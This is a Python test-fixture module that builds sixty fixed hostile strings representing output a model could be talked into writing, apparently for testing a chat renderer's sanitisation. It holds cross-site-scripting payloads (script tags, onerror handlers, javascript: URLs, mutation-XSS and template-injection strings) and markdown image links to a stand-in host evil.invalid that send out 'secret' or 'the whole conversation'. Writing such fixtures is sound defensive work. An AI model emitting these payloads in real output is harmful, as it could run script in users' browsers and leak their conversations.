"""Sixty texts that a model could be talked into writing, each trying to run code or to send a request."""

from collections.abc import Iterator
from itertools import islice

EVIL = "http://evil.invalid"
RUN = "window.ran=1"
PAYLOADS = (
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"{EVIL}/x.png?q=secret",
    "//evil.invalid/x.js",
    "vbscript:msgbox(1)",
    f"{EVIL}/a.svg#onload={RUN}",
)
FRAMES = (
    "<script>{p}</script>",
    '<script src="{p}"></script>',
    '<img src="{p}" onerror="window.ran=1">',
    "<img src={p} onload=window.ran=1>",
    '<svg onload="window.ran=1"><image href="{p}"/></svg>',
    '<iframe src="{p}" srcdoc="<script>parent.ran=1</script>"></iframe>',
    '<a href="{p}" ping="http://evil.invalid/ping">click</a>',
    '<form action="{p}"><button autofocus onfocus="window.ran=1">go</button></form>',
    '<link rel="stylesheet" href="{p}"><link rel="prefetch" href="{p}">',
    '<meta http-equiv="refresh" content="0;url={p}">',
    '<object data="{p}"></object><embed src="{p}">',
    '<video poster="{p}"><source src="{p}"></video><audio src="{p}" autoplay></audio>',
    '<style>@import "{p}"; *{{background:url({p})}}</style>',
    '<div style="background-image:url({p})">text</div>',
    "![a picture]({p})",
    '[a link]({p} "title")',
    "![a][1]\n\n[1]: {p}",
    "<{p}>",
    "&lt;img src={p} onerror=window.ran=1&gt; &#60;script&#62;",
    '```html\n<script src="{p}"></script>\n```',
    '<math><mtext></table></math><mglyph><style><img src="{p}" onerror="window.ran=1">',
    '<details open ontoggle="window.ran=1"><summary>{p}</summary></details>',
    '"><img src=x onerror=window.ran=1>{p}<!--',
    "<base href='{p}'><script type=module>import '{p}'</script>",
)
ODD = (
    "\u202e" + "<gpj.exe src=x onerror=window.ran=1>" + "\u202c\u2066\u2069 It is so.",
    "<" * 300 + "img src=x onerror=window.ran=1>",
    "A" * 600 + "<img src=x onerror=window.ran=1>",
    "\u0000<scr\u0000ipt>window.ran=1</scr\u0000ipt>\ufeff\ufffd",
    "😀<img src=x onerror=window.ran=1>👩‍👩‍👧‍👦 é" * 3,
    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} #{window.ran=1} <%= 1 %>",
    "1. <img src=x onerror=window.ran=1>\n2. ![x](http://evil.invalid/2.png)\n- [x](javascript:window.ran=1)\n",
    "</span></div></li></ol></main><script>window.ran=1</script>",
    "--></script></style></textarea></title><svg/onload=window.ran=1>",
    "https://evil.invalid/steal?data=the+whole+conversation www.evil.invalid mailto:a@evil.invalid",
    "<a\thref\n=\n'java\tscript:window.ran=1'>x</a> <A HREF=JaVaScRiPt:window.ran=1>x</A>",
    "<template shadowrootmode=open><img src=x onerror=window.ran=1></template>",
)


def hostile_outputs() -> list[str]:
    """The sixty, always the same."""
    return [*ODD, *islice(_framed(), 60 - len(ODD))]


def _framed() -> Iterator[str]:
    for turn in range(len(PAYLOADS)):
        for place, frame in enumerate(FRAMES):
            yield "See this: " + frame.replace("{p}", PAYLOADS[(place + turn) % len(PAYLOADS)]).replace("{{", "{")
